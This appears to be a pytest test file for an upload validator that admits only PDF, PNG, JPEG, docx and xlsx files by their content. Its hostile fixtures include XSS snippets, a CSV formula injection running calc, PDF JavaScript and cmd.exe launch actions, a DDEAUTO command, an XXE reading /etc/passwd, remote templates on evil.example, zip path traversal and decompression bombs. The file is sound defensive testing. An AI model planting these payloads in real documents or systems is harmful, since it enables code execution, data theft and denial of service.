"""A file is what its content says; what is not wholly one of the five kinds is refused with a sentence."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from plans.file_kinds import KINDS, Refused, kind_of, office, size_words
from plans.file_kinds.office import EXCEL
from tests.sample_files import GOOD, TYPES, archive, chunk, jpeg, pdf, png, relations, stream
from tests.sample_files import office as office_file


def refusal(content: bytes) -> str:
    """Return the sentence a file is refused with, or what it was taken for."""
    try:
        return f"taken as {kind_of(content).extension}"
    except Refused as refused:
        return str(refused)


@pytest.mark.parametrize("extension", GOOD)
def test_each_kind_is_known_by_its_content(extension: str) -> None:
    kind = kind_of(GOOD[extension])
    assert (kind.extension, TYPES[kind.content_type]) == (extension, extension)


def test_kinds_are_the_five_allowed() -> None:
    assert {kind.content_type: kind.extension for kind in KINDS.values()} == TYPES


def test_workbook_that_excel_libraries_write_is_taken() -> None:
    written = io.BytesIO()
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Substitutes"
    workbook.save(written)
    assert kind_of(written.getvalue()).extension == "xlsx"


def test_real_pictures_are_taken() -> None:
    paths = sorted(Path(settings.BASE_DIR, "docs", "screenshots").glob("*.png"))
    assert {kind_of(path.read_bytes()).extension for path in paths} == {"png"}


DAMAGED_PICTURE = "This picture is damaged or not whole: open it, save it again as PNG or JPEG, then attach that."
FOLLOWED = "Something else follows the picture in this file: open it, save it again as PNG or JPEG, then attach that."
DAMAGED_PDF = "This PDF is damaged or not whole: open it, save or print it as PDF again, then attach that one."
ACTIVE_PDF = "This PDF carries a script or other files inside: print it as PDF, then attach the printed one."
LOCKED_PDF = "This PDF has a password or restrictions: save or print it as PDF without them, then attach that one."
DAMAGED_OFFICE = "This file is damaged or not whole: open it in Word or Excel, save it again, then attach that."
NEITHER = (
    "This is neither a Word (.docx) nor an Excel (.xlsx) file: save it as one of these or as PDF, then attach that."
)
ACTIVE_OFFICE = (
    "This file carries macros or programs: save it as .docx or .xlsx without them, or as PDF, then attach that."
)
SWOLLEN = "This file unpacks to far more than it should: save a copy of it, or save it as PDF, then attach that."
ELSEWHERE = "This file fetches something from another place when it is opened, like a linked picture or template: save it as PDF, then attach that."
UNKNOWN = "This is not a PDF, PNG, JPEG, Word (.docx) or Excel (.xlsx) file, whatever its name says: save it as one of these, then attach that."
PACKED = "An archive is packed into this file: save it again or print it as PDF, then attach that."

SCRIPT = b"<script>alert(1)</script>"
HIDDEN = zlib.compress(b"4 0 << /S /JavaScript /JS (app.alert(1)) >>")
HOSTILE: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
    "nothing but blanks": (
        b" \x00\r\n",
        "This file is empty: open it in the program it comes from, save it again, then attach it.",
    ),
    "HTML": (b"<!doctype html><script>alert(1)</script>", UNKNOWN),
    "SVG": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', UNKNOWN),
    "a script": (b"alert(document.cookie)", UNKNOWN),
    "text": (b"name,amount\n=cmd|' /C calc'!A0,1", UNKNOWN),
    "GIF that is a script": (
        b"GIF89a=0;alert(1)",
        "This is a GIF picture: save it as PNG or JPEG, then attach that.",
    ),
    "a program": (
        b"MZ\x90\x00\x03" + bytes(60),
        "This is a program, not a document: attach a PDF, PNG, JPEG, Word or Excel file.",
    ),
    "older Word": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
        "This is an older Word or Excel file, or one with a password: open it and save it as .docx or .xlsx without a password, then attach that.",
    ),
    "HEIC": (
        b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00",
        "This is a HEIC picture, as phones take them: save it as JPEG or PNG, then attach that.",
    ),
    "script before a PDF": (SCRIPT + pdf(), UNKNOWN),
    "script behind a PDF": (pdf() + SCRIPT, DAMAGED_PDF),
    "PDF cut off": (pdf()[:-20], DAMAGED_PDF),
    "PDF header alone": (b"%PDF-1.7\n", DAMAGED_PDF),
    "PDF of no version": (b"%PDF-x" + pdf()[8:], DAMAGED_PDF),
    "PDF with a password": (pdf(trailer=b"<< /Root 1 0 R /Encrypt 9 0 R >>"), LOCKED_PDF),
    "PDF with a script": (pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), ACTIVE_PDF),
    "PDF with a script in disguise": (pdf(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"), ACTIVE_PDF),
    "PDF with a packed script": (pdf(stream(b"/Type /ObjStm /Filter /FlateDecode", HIDDEN)), ACTIVE_PDF),
    "PDF with a script in what looks like a stream": (
        pdf(b"<< >>\n%>>stream\n9 0 obj << /S /JavaScript /JS (x) >>\n%endstream"),
        ACTIVE_PDF,
    ),
    "PDF that starts a program": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), ACTIVE_PDF),
    "PDF with a file inside": (pdf(b"<< /Names << /EmbeddedFiles 9 0 R >> >>"), ACTIVE_PDF),
    "PDF that is an archive too": (pdf(stream(b"", archive({"evil.class": "x"}))), PACKED),
    "PDF bomb": (
        lambda: pdf(stream(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b"4 0 " + bytes(60_000_000)))),
        "This PDF unpacks to far more than it should: print it as PDF, then attach the printed one.",
    ),
    "script behind a PNG": (png() + SCRIPT, FOLLOWED),
    "archive behind a PNG": (png() + archive({"evil.class": "x"}), FOLLOWED),
    "archive in a chunk of a PNG": (png(1, 1, chunk(b"zzZz", archive({"evil.class": "x"}))), PACKED),
    "PNG cut off": (png()[:-4], DAMAGED_PICTURE),
    "PNG with a wrong sum": (png().replace(b"IDAT", b"IDaT"), DAMAGED_PICTURE),
    "PNG without a picture": (b"\x89PNG\r\n\x1a\n" + chunk(b"IEND", b""), DAMAGED_PICTURE),
    "PNG of no width": (png(0, 1), DAMAGED_PICTURE),
    "PNG as wide as a street": (
        png(100_000, 100_000),
        "This picture is 100000 by 100000 points, too large to show: make it smaller, then attach it.",
    ),
    "PNG start with HTML": (b"\x89PNG\r\n\x1a\n" + SCRIPT, DAMAGED_PICTURE),
    "script behind a JPEG": (jpeg() + SCRIPT, FOLLOWED),
    "JPEG cut off": (jpeg()[:-2], DAMAGED_PICTURE),
    "JPEG start with a script": (b"\xff\xd8\xff\xe0/*\x00*/=alert(1)", DAMAGED_PICTURE),
    "JPEG without a frame": (b"\xff\xd8\xff\xda\x00\x02\x00\xff\xd9", DAMAGED_PICTURE),
    "JPEG of no height": (jpeg(8, 0), DAMAGED_PICTURE),
    "archive of anything": (archive({"evil.exe": "MZ"}), ACTIVE_OFFICE),
    "archive of text": (archive({"notes.txt": "words"}), NEITHER),
    "archive that only is called so": (archive({"word/document.xml": "<document/>"}), NEITHER),
    "PowerPoint": (
        office_file("application/vnd.openxmlformats-officedocument.presentationml.presentation"),
        NEITHER,
    ),
    "Word that lacks its text": (office_file(without="word/document.xml"), NEITHER),
    "Word with macros by type": (office_file("application/vnd.ms-word.document.macroEnabled"), ACTIVE_OFFICE),
    "Word with macros": (office_file(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), ACTIVE_OFFICE),
    "Excel with macros": (office_file(EXCEL, more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), ACTIVE_OFFICE),
    "Excel with a sheet of old macros": (office_file(EXCEL, more={"xl/macrosheets/sheet1.xml": "<m/>"}), ACTIVE_OFFICE),
    "Word with a program inside": (office_file(more={"word/embeddings/oleObject1.bin": b"x"}), ACTIVE_OFFICE),
    "Excel that calls a program": (
        office_file(EXCEL, more={"xl/externalLinks/externalLink1.xml": "<ddeLink ddeService='cmd'/>"}),
        ACTIVE_OFFICE,
    ),
    "Word that calls a program": (
        office_file(more={"word/document.xml": "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"}),
        ACTIVE_OFFICE,
    ),
    "Word with entities in its list": (
        office_file(more={"[Content_Types].xml": '<!DOCTYPE x [<!ENTITY a "b">]><Types/>'}),
        DAMAGED_OFFICE,
    ),
    "Word with an entity from outside": (
        office_file(more={"word/document.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}),
        ACTIVE_OFFICE,
    ),
    "Word with entities in another alphabet": (
        office_file(more={"word/document.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")}),
        DAMAGED_OFFICE,
    ),
    "Word with a template from the net": (
        office_file(
            more={"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/t.dotm")}
        ),
        ELSEWHERE,
    ),
    "Word with a picture from a share": (
        office_file(
            more={"word/_rels/document.xml.rels": relations("image", "file:///\\\\evil.example\\share\\x.png")}
        ),
        ELSEWHERE,
    ),
    "Word with a name that climbs": (office_file(more={"../../etc/passwd": "x"}), DAMAGED_OFFICE),
    "Word with two of a name": (office_file(more={"WORD/document.xml": "<x/>"}), DAMAGED_OFFICE),
    "Word bomb": (lambda: office_file(more={"word/media/zeros.xml": bytes(30_000_000)}), SWOLLEN),
    "Word of many bombs": (
        lambda: office_file(more={f"word/media/{index}.xml": bytes(900_000) for index in range(120)}),
        SWOLLEN,
    ),
    "script before a Word file": (SCRIPT + office_file(), UNKNOWN),
    "script behind a Word file": (office_file() + SCRIPT, DAMAGED_OFFICE),
    "Word file cut off": (office_file()[:-30], DAMAGED_OFFICE),
    "archive header alone": (b"PK\x03\x04" + bytes(30), DAMAGED_OFFICE),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_refused_with_what_is_wrong_and_what_to_do(name: str) -> None:
    content, sentence = HOSTILE[name]
    assert refusal(content() if callable(content) else content) == sentence


def test_word_file_with_a_password_in_its_directory() -> None:
    content = bytearray(office_file())
    for start, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(start) + at] |= 1
    assert refusal(bytes(content)) == "This file has a password: save it without one, then attach that."


def test_something_between_the_members_is_found() -> None:
    whole = office_file()
    start = whole.index(b"PK\x01\x02")
    count, size = struct.unpack("<HI", whole[-12:-6])
    assert count == 3
    end = whole[-22:-6] + struct.pack("<IH", start + len(SCRIPT) * 4, 0)
    assert refusal(whole[:start] + SCRIPT * 4 + whole[start : start + size] + end) == DAMAGED_OFFICE


def test_member_that_is_another_in_its_own_header_is_found() -> None:
    whole = office_file()
    # The first mention is in the member's own header, the second in the directory at the end.
    assert whole.count(b"word/document.xml") == 2
    assert refusal(whole.replace(b"word/document.xml", b"word/docOment.xml", 1)) == DAMAGED_OFFICE


def test_what_people_have_in_good_files_is_taken() -> None:
    taken = {
        "a link": office_file(
            more={"word/_rels/document.xml.rels": relations("hyperlink", "https://www.pusd.us/plans")}
        ),
        "a template of this computer": office_file(
            more={"word/_rels/settings.xml.rels": relations("attachedTemplate", "file:///C:\\Users\\me\\Plan.dotx")}
        ),
        "a linked workbook": office_file(
            EXCEL, more={"xl/externalLinks/_rels/1.xml.rels": relations("externalLinkPath", "Budget 2020.xlsx")}
        ),
        "settings of a printer": office_file(EXCEL, more={"xl/printerSettings/printerSettings1.bin": b"\x00\x01"}),
        "the sheet behind a chart": office_file(more={"word/embeddings/Microsoft_Excel_Sheet.xlsx": b"PK"}),
        "a picture that is not packed": office_file(more={"word/media/image1.png": png()}),
        "two pictures, as phones add them": jpeg() + jpeg(4, 4),
        "a picture with padding behind it": jpeg() + bytes(64),
        "a PDF with padding behind it": pdf() + b"\r\n" + bytes(100),
        "a PDF with a packed picture": pdf(stream(b"/Subtype /Image", zlib.compress(b"/JS /JavaScript" + bytes(9)))),
        "a PDF whose packed objects are harmless": pdf(
            stream(b"/Type /ObjStm", zlib.compress(b"4 0 << /Type /Font >>"))
        ),
    }
    assert {name: refusal(content)[:8] for name, content in taken.items()} == dict.fromkeys(taken, "taken as")


def test_limits_are_of_what_the_directory_says(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing is unpacked to find a bomb: reading any member of it would fail here."""
    bomb = office_file(more={"word/media/zeros.xml": bytes(30_000_000)})
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *arguments: pytest.fail("unpacked"))
    assert refusal(bomb) == SWOLLEN


def test_too_many_members(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office, "MOST_MEMBERS", 3)
    assert refusal(office_file()) == "taken as docx"
    assert refusal(office_file(more={"word/one.xml": "<x/>"})) == SWOLLEN


@pytest.mark.parametrize("extension", GOOD)
def test_no_change_of_bytes_breaks_the_reader(extension: str) -> None:
    good = GOOD[extension]
    places = st.integers(min_value=0, max_value=len(good) - 1)

    @hypothesis_settings(max_examples=300, deadline=None, database=None, derandomize=True)
    @given(changes=st.lists(st.tuples(places, st.binary(max_size=6)), min_size=1, max_size=4), cut=places)
    def fuzz(changes: list[tuple[int, bytes]], cut: int) -> None:
        content = bytearray(good)
        for place, piece in changes:
            content[place : place + len(piece)] = piece
        for each in (bytes(content), bytes(content[:cut])):
            assert refusal(each)

    fuzz()


@hypothesis_settings(max_examples=300, deadline=None, database=None, derandomize=True)
@given(
    start=st.sampled_from([b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"PK\x03\x04", b""]), rest=st.binary()
)
def test_any_bytes_are_answered(start: bytes, rest: bytes) -> None:
    assert refusal(start + rest)


@pytest.mark.parametrize(
    ("size", "words"),
    (
        (0, "0 bytes"),
        (999, "999 bytes"),
        (1_000, "1 KB"),
        (240_400, "240 KB"),
        (999_499, "999 KB"),
        (999_500, "1 MB"),
        (1_540_000, "1.5 MB"),
        (10_000_000, "10 MB"),
    ),
)
def test_sizes_in_words(size: int, words: str) -> None:
    assert size_words(size) == words
